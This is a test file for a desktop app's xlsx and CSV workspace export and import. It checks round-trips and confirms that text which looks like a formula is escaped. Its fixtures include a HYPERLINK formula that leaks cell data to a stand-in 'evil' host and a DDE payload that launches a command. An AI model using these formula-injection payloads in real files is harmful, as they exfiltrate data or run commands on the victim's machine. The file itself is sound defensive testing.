// Export → re-import gives the same workspace contents (xlsx and CSV), on the built-in demo
// workspace; and text that would run as a formula is neutralised in both formats.
import * as XLSX from '@e965/xlsx';
import { afterEach, describe, expect, it } from 'vitest';

import { seedDemoWorkspace } from '../../../../../electron/core/demo/seed-demo.js';
import {
  exportWorkspace,
  importTemplate,
} from '../../../../../electron/core/export/export-service.js';
import { commitImport, prepareImport } from '../../../../../electron/core/import/import-service.js';
import {
  dumpContents,
  tempWorkspace,
  type TempWorkspace,
} from '../../../../support/import-fixtures.js';

const open: TempWorkspace[] = [];
const fresh = (): TempWorkspace => {
  const t = tempWorkspace();
  open.push(t);
  return t;
};
afterEach(() => {
  for (const t of open.splice(0)) t.dispose();
});

const EVIL = '=HYPERLINK("http://evil.invalid/?x="&A1,"点我")';

function demo(): TempWorkspace {
  const a = fresh();
  seedDemoWorkspace(a.ws.db);
  return a;
}

describe('export → import round trip (demo workspace)', () => {
  it.each(['xlsx', 'csv'] as const)(
    '%s re-imports into an empty workspace with the same contents',
    async (format) => {
      const a = demo();
      const files = await exportWorkspace(a.ws, format);
      const b = fresh();
      const prepared = await prepareImport(
        b.ws,
        files.map((f) => ({ name: `demo${f.suffix}.${format}`, bytes: f.bytes })),
      );
      expect(prepared.preview.issues).toEqual([]);
      await commitImport(b.ws, prepared, { backup: false });
      expect(dumpContents(b.ws.db)).toEqual(dumpContents(a.ws.db));
    },
  );

  it('re-importing the export into the same workspace changes nothing', async () => {
    const a = demo();
    const [file] = await exportWorkspace(a.ws, 'xlsx');
    const prepared = await prepareImport(a.ws, [
      { name: 'demo.xlsx', bytes: file?.bytes ?? Buffer.alloc(0) },
    ]);
    expect(prepared.preview.issues).toEqual([]);
    for (const c of Object.values(prepared.preview.counts))
      expect(c).toMatchObject({ new: 0, updated: 0, rejected: 0 });
  });

  it('writes a frozen Chinese header row with column widths, one sheet per entity', async () => {
    const a = demo();
    const [file] = await exportWorkspace(a.ws, 'xlsx');
    const wb = XLSX.read(file?.bytes, { type: 'buffer', cellStyles: true });
    expect(wb.SheetNames).toEqual(['产业链', '企业', '供应关系', '招商线索']);
    const sheetXml = XLSX.read(file?.bytes, { type: 'buffer', bookFiles: true }) as unknown as {
      files: Record<string, { content: Buffer }>;
    };
    const xml =
      Object.entries(sheetXml.files)
        .find(([k]) => k.endsWith('sheet2.xml'))?.[1]
        .content.toString() ?? '';
    expect(xml).toContain('state="frozen"');
    expect(xml).toMatch(/<col [^>]*width=/);
    expect((wb.Sheets['企业']?.['A1'] as XLSX.CellObject | undefined)?.v).toBe('企业名称');
  });
});

describe('formula neutralisation on export', () => {
  it('a firm named like a formula stays text in xlsx and CSV, and round-trips unchanged', async () => {
    const a = fresh();
    a.ws.db
      .prepare("INSERT INTO enterprise (name, main_products) VALUES (?, '+cmd|'' /C calc''!A0')")
      .run(EVIL);
    a.ws.db
      .prepare("INSERT INTO enterprise (name, main_products) VALUES ('@SUM(1)', '-40℃冷柜')")
      .run();

    const [xlsx] = await exportWorkspace(a.ws, 'xlsx', 'enterprises');
    const wb = XLSX.read(xlsx?.bytes, { type: 'buffer', cellFormula: true });
    const ws = wb.Sheets['企业'];
    const at = (addr: string) => ws?.[addr] as XLSX.CellObject | undefined;
    expect(at('A2')).toMatchObject({ t: 's', v: `'${EVIL}` });
    expect(at('A2')?.f).toBeUndefined();
    expect(at('Q2')?.v).toBe("'+cmd|' /C calc'!A0");
    expect(at('A3')?.v).toBe("'@SUM(1)");

    const [csv] = await exportWorkspace(a.ws, 'csv', 'enterprises');
    const text = csv?.bytes.toString('utf8') ?? '';
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.invalid/?x=""&A1,""点我"")"`);
    expect(text).toContain(`"'-40℃冷柜"`);

    for (const [name, bytes] of [
      ['e.xlsx', xlsx?.bytes],
      ['e.csv', csv?.bytes],
    ] as const) {
      const b = fresh();
      const prepared = await prepareImport(b.ws, [{ name, bytes: bytes ?? Buffer.alloc(0) }]);
      await commitImport(b.ws, prepared, { backup: false });
      expect(
        b.ws.db.prepare('SELECT name, main_products FROM enterprise ORDER BY id').all(),
      ).toEqual([
        { name: EVIL, main_products: "+cmd|' /C calc'!A0" },
        { name: '@SUM(1)', main_products: '-40℃冷柜' },
      ]);
    }
  });
});

describe('import template', () => {
  it('has Chinese headers, one example row per sheet and instructions, and imports cleanly as it is', async () => {
    const bytes = await importTemplate();
    const wb = XLSX.read(bytes, { type: 'buffer' });
    expect(wb.SheetNames).toEqual(['产业链', '企业', '供应关系', '招商线索', '填写说明']);
    const firms = XLSX.utils.sheet_to_json<Record<string, unknown>>(
      wb.Sheets['企业'] as XLSX.WorkSheet,
    );
    expect(firms[0]?.['企业名称']).toBe('示例液压件有限公司');
    const b = fresh();
    const prepared = await prepareImport(b.ws, [{ name: '导入模板.xlsx', bytes }]);
    expect(prepared.preview.issues).toEqual([]);
    expect(prepared.preview.files[0]?.sheets.map((s) => s.mapping?.kind ?? null)).toEqual([
      'chains',
      'enterprises',
      'links',
      'leads',
      null,
    ]);
    expect(prepared.preview.counts).toMatchObject({
      chains: { new: 2 },
      enterprises: { new: 2 },
      links: { new: 1 },
      leads: { new: 1 },
    });
  });
});
